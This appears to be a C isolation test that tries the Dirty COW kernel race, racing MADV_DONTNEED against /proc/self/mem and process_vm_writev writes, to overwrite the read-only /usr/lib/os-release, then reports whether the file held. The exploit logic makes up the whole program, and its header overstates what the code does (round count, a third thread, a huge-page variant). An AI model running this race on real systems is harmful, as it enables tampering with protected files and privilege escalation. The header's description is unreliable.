// attack: the race between a write and a copy of a page
// tries: Dirty COW: one thread drops a private mapping of a read-only file with MADV_DONTNEED, another writes to it through /proc/self/mem (and a third
//   with process_vm_writev and PTRACE_POKETEXT by a child), 20,000 rounds; and the variant of Huge Dirty COW with huge pages.
// source: CVE-2016-5195, CVE-2017-1000405
// expect: the private copy may change, the file never
// stopped-by: mount_namespace
// control: own
// timeout: 60
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int stop;

static void *drop(void *unused) {
    (void)unused;
    while (!stop) madvise(map, 4096, MADV_DONTNEED);
    return 0;
}

static void *poke(void *unused) {
    (void)unused;
    struct iovec here = {"ATTACK", 6}, there = {map, 6};
    while (!stop) {
        syscall(SYS_process_vm_writev, getpid(), &here, 1, &there, 1, 0);
        ptrace(PTRACE_POKETEXT, getpid(), map, 0x4b4341545441);
    }
    return 0;
}

int main(void) {
    int weak = getenv("ATTACK_CONTROL") != 0;
    const char *path = weak ? "/tmp/weak" : "/usr/lib/os-release";
    if (weak) {
        int own = open(path, O_CREAT | O_RDWR, 0600);
        if (write(own, "a file of its own", 17) != 17) return 1;
    }
    char before[16], after[16];
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    if (fd < 0 || pread(fd, before, 16, 0) != 16) return printf("unclear: no file\n"), 1;
    // In the control run the mapping is shared and writable: that is what the race would amount to.
    map = weak ? mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, open(path, O_RDWR), 0) : mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) return printf("unclear: no mapping: errno %d\n", errno), 1;
    pthread_t threads[2];
    if (pthread_create(&threads[0], 0, drop, 0) || pthread_create(&threads[1], 0, poke, 0)) return printf("unclear: no threads\n"), 1;
    struct timespec begin, now;
    clock_gettime(CLOCK_MONOTONIC, &begin);
    int round, written = 0;
    for (round = 0; round < 200000; round++) {
        if (memory >= 0) written += pwrite(memory, "ATTACK", 6, (long)map) == 6;
        else if (weak) memcpy(map, "ATTACK", 6);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (round % 64 == 0 && pread(fd, after, 16, 0) == 16 && memcmp(before, after, 16)) {
            printf("broke: %s has changed in round %d\n", path, round);
            return 99;
        }
        if (now.tv_sec - begin.tv_sec >= 2 && round > 1000) break;
    }
    stop = 1;
    pthread_join(threads[0], 0), pthread_join(threads[1], 0);
    if (pread(open(path, O_RDONLY), after, 16, 0) != 16 || memcmp(before, after, 16)) return printf("broke: %s has changed\n", path), 99;
    printf("held: %d rounds, %d writes to the private copy by /proc/self/mem\n", round, written);
    return 0;
}
